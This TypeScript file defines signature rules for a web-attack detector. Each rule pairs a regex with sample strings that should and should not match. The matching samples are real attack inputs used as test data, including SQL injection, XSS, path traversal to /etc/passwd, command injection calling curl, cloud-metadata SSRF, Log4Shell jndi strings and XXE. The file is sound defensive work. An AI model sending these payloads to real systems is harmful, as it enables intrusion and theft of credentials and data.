/** A form of attack that is known by what it sends. */
export interface SignatureRule {
  /** What stands in a record: `sqli-union`. */
  readonly id: string
  /** One of these stands in every match, in lower case and at least three characters long: nothing else is looked at closer. */
  readonly literals: readonly string[]
  /** Matched against decoded lower-case text. Repetitions are bounded and do not follow each other, so that it is linear. */
  readonly pattern: RegExp
  /** Only in the field that names a client. */
  readonly agentOnly?: boolean
  /** Texts in which it must, and must not, be found. */
  readonly hits: readonly string[]
  readonly misses: readonly string[]
}

/** A curated set: attacks that are made every day, by forms that no honest request has. */
export const signatureRules: readonly SignatureRule[] = [
  {
    id: 'sqli-union',
    literals: ['union'],
    pattern: /\bunion\b(?:\s|\/\*[^*]{0,20}\*\/|\(|\ball\b|\bdistinct\b){1,10}select\b/,
    hits: ["id=1' UNION ALL SELECT null,version()--", 'id=1/**/union/**/select/**/1'],
    misses: ['q=european union', 'q=union square, select shops', 'trade-unions'],
  },
  {
    id: 'sqli-tautology',
    literals: ['or', 'and', '||'].flatMap((word) => [
      `'${word}`,
      `' ${word}`,
      `"${word}`,
      `" ${word}`,
      `) ${word}`,
      `'/**/${word}`,
    ]),
    pattern:
      /['")](?:\s|\/\*\*\/){0,5}(?:or|and|\|\|)(?:\s|\/\*\*\/|\(){0,5}['"]?(\w{1,20})['"]?(?:\s|\/\*\*\/){0,5}(?:=|<|>|like)(?:\s|\/\*\*\/){0,5}['"]?\w/,
    hits: ["name=' or '1'='1", "u=admin') OR (1=1--", `p=" or "a"="a`],
    misses: ["q=rock'n'roll and jazz", 'filter=(a) or (b)', `name="salt" and "pepper"`],
  },
  {
    id: 'sqli-stacked',
    literals: ['drop table', 'insert into', 'delete from', 'waitfor delay', 'xp_cmdshell', 'truncate table', 'exec('],
    pattern:
      /['";)]\s{0,5};?\s{0,5}(?:drop table|insert into|delete from|truncate table|waitfor delay|exec\(|exec (?:master\.\.)?xp_cmdshell)/,
    hits: ["id=1'; DROP TABLE users--", "id=1);WAITFOR DELAY '0:0:5'--"],
    misses: ['q=how to insert into a list', 'title=drop table saw'],
  },
  {
    id: 'sqli-time',
    literals: ['sleep(', 'benchmark(', 'pg_sleep', 'dbms_pipe'],
    pattern: /(?:['")\s,(;=]|^)(?:sleep\(\s{0,3}\d|benchmark\(\s{0,3}\d|pg_sleep\(|dbms_pipe\.receive_message)/,
    hits: ["id=1' and sleep(5)--", 'id=1;select pg_sleep(10)'],
    misses: ['q=sleep (8 hours)', 'topic=benchmark'],
  },
  {
    id: 'sqli-schema',
    literals: ['information_schema', 'sqlite_master', 'pg_catalog', 'load_file(', 'into outfile', '@@version'],
    pattern: /information_schema\.|sqlite_master|pg_catalog\.|load_file\(|into outfile|@@version/,
    hits: ['id=1 and (select 1 from information_schema.tables)'],
    misses: ['q=information schema design'],
  },
  {
    id: 'xss-script',
    literals: ['<script', '</script', 'javascript:', 'vbscript:'],
    pattern: /<\/?script[\s/>]|[=\s"'(]\s{0,5}(?:java|vb)script:[^\s/]/,
    hits: ['q=<script>alert(1)</script>', 'url=javascript:alert(1)', 'q=%3Csvg%3E%253Cscript%253E'],
    misses: ['q=javascript tutorial', 'tag=typescript', 'q=javascript: the good parts'],
  },
  {
    id: 'xss-handler',
    literals: ['onerror', 'onload', 'onmouse', 'onfocus', 'onclick', 'ontoggle', 'onanimation', 'onpointer', 'srcdoc'],
    pattern:
      /<[a-z][^<>]{0,200}[\s/"'](?:on(?:error|load|focus|click|toggle|mouse[a-z]{1,8}|animation[a-z]{1,10}|pointer[a-z]{1,10})|srcdoc)\s{0,5}=/,
    hits: ['q=<img src=x onerror=alert(1)>', 'q=&lt;svg/onload=alert(1)&gt;'],
    misses: ['onload=true', 'q=what is onerror'],
  },
  {
    id: 'path-traversal',
    literals: ['../', '..\\', '/..;'],
    pattern:
      /(?:^|[/\\=&?])\.\.[/\\](?:[^/\\]{0,40}[/\\]){0,8}?(?:\.\.|etc|proc|windows|win\.ini|boot\.ini|web-inf|var|home|root)|\/\.\.;\//,
    hits: ['file=../../etc/passwd', 'f=..%252f..%252fwin.ini', 'f=..%c0%af..%c0%afetc/passwd', 'x=/a/..;/admin'],
    misses: ['v=1..2', 'q=wait... what', 'from=../list'],
  },
  {
    id: 'file-sensitive',
    literals: [
      '/etc/passwd',
      '/etc/shadow',
      '/proc/self',
      'win.ini',
      'boot.ini',
      '.git/config',
      '/.env',
      '.aws/credentials',
      '.ssh/id_',
    ],
    pattern:
      /\/etc\/(?:passwd|shadow)|\/proc\/self\/|[/\\](?:win|boot)\.ini|\.git\/config|\/\.env(?:$|[.&?\s])|\.aws\/credentials|\.ssh\/id_/,
    hits: ['/.env', 'f=/etc/passwd', '/.git/config', 'f=c:\\windows\\win.ini'],
    misses: ['/docs/environment', '/v1/.envelope', 'q=etc passwd'],
  },
  {
    id: 'command-injection',
    literals: [
      'cat ',
      'wget',
      'curl',
      'nslookup',
      'ping ',
      'whoami',
      '/bin/',
      'powershell',
      'certutil',
      'id;',
      'uname',
      '$ifs',
      '${ifs',
    ],
    pattern:
      /(?:[;|`]|&&|\$\()\s{0,5}(?:cat\s|wget\s|curl\s|nslookup\s|ping\s|whoami|uname|id;|powershell|certutil\s|(?:\/usr)?\/bin\/)|\$\{?ifs\b/,
    hits: ['host=1.1.1.1;cat /etc/hosts', 'x=$(curl http://a.test)', 'x=a|whoami', 'x=cat${IFS}file'],
    misses: ['q=curl vs wget', 'q=black cat | dogs', 'q=tom & jerry'],
  },
  {
    id: 'ssrf-metadata',
    literals: ['169.254.169.254', 'metadata.google', '100.100.100.200', 'gopher://', 'dict://', 'file://', 'fd00:ec2'],
    pattern:
      /169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|[=/]\s{0,3}(?:gopher|dict|file):\/\//,
    hits: ['url=http://169.254.169.254/latest/meta-data', 'u=gopher://127.0.0.1:6379/_x', 'u=file:///etc/hosts'],
    misses: ['ip=169.254.1.1', 'q=profile://x'],
  },
  {
    id: 'template-injection',
    literals: ['{{', '${', '<%=', '#{', '__class__', '__mro__'],
    pattern:
      /\{\{.{0,20}\d\s{0,3}\*\s{0,3}['\d]|[$#]\{\s{0,3}\d{1,9}\s{0,3}\*|<%=\s{0,5}\d{1,9}\s{0,3}\*|__(?:class|mro|subclasses|globals)__|[$#]\{\s{0,3}(?:t\(java|@?java\.lang|new java)/,
    hits: ['name={{7*7}}', 'x=${7*7}', "x={{''.__class__.__mro__}}", 'x=${T(java.lang.Runtime)}'],
    misses: ['q={{name}}', 'price=${amount}', 'css=a{b:c}'],
  },
  {
    id: 'log4shell',
    literals: ['jndi', '${lower:', '${upper:', '${::-', '${env:'],
    pattern: /\$\{.{0,40}jndi\s{0,3}:|\$\{(?:lower|upper|env|::-|[a-z]{0,8}:-)[^}]{0,20}\}.{0,80}(?:ldap|rmi|dns|\/\/)/,
    hits: ['${jndi:ldap://a.test/x}', '${${lower:j}ndi:${lower:l}dap://a.test/x}', '${${::-j}${::-n}di:rmi://a.test}'],
    misses: ['q=jndi tutorial', '${env}'],
  },
  {
    id: 'ldap-injection',
    literals: ['*)(', ')(|', ')(&', ')(!'],
    pattern: /\*\)\((?:[|&!]|[a-z]{2,20}=)|\)\([|&!]\(?[a-z]{2,20}=/,
    hits: ['user=*)(uid=*))(|(uid=*', 'u=admin)(|(password=*'],
    misses: ['f=(a*)(b)', 'q=(x)(y)'],
  },
  {
    id: 'xxe',
    literals: ['<!entity', '<!doctype'],
    pattern: /<!entity\s|<!doctype[^>]{0,200}\[/,
    hits: ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    misses: ['<!doctype html>'],
  },
  {
    id: 'nosql-operator',
    literals: ['[$', '"$', "'$"],
    pattern: /(?:\[\$|["']\$)(?:ne|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|expr)(?:\]|["'])/,
    hits: ['user[$ne]=x', 'q={"password":{"$gt":""}}'],
    misses: ['price[$]=3', 'q="$5"'],
  },
  {
    id: 'crlf-injection',
    literals: ['\nset-cookie', '\nlocation', '\ncontent-', '\nx-', '\nhttp/'],
    pattern: /\r?\n(?:set-cookie|location|content-(?:type|length)|x-[a-z-]{1,40})\s{0,3}:|\nhttp\/1/,
    hits: ['u=a%0d%0aSet-Cookie:%20a=b'],
    misses: ['text=line%0aline'],
  },
  {
    id: 'code-php',
    literals: ['<?php', 'php://', 'phar://', 'allow_url_include', 'base64_decode(', 'expect://'],
    pattern: /<\?php|php:\/\/(?:input|filter)|phar:\/\/|expect:\/\/|allow_url_include|base64_decode\(/,
    hits: ['f=php://filter/convert.base64-encode/resource=index', '-d allow_url_include=1'],
    misses: ['q=learn php'],
  },
  {
    id: 'scanner-agent',
    agentOnly: true,
    literals: [
      'sqlmap',
      'nikto',
      'nuclei',
      'masscan',
      'zgrab',
      'wpscan',
      'gobuster',
      'dirbuster',
      'acunetix',
      'nessus',
      'openvas',
      'ffuf',
      'feroxbuster',
      'arachni',
      'w3af',
      'nmap scripting',
    ],
    pattern:
      /sqlmap|nikto|nuclei|masscan|zgrab|wpscan|gobuster|dirbuster|acunetix|nessus|openvas|\bffuf|fuzz faster u fool|feroxbuster|arachni|w3af|nmap scripting/,
    hits: ['sqlmap/1.8#stable (https://sqlmap.org)', 'Mozilla/5.0 (Nikto/2.5.0)', 'Mozilla/5.0 zgrab/0.x'],
    misses: ['Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0', 'curl/8.9.1'],
  },
]
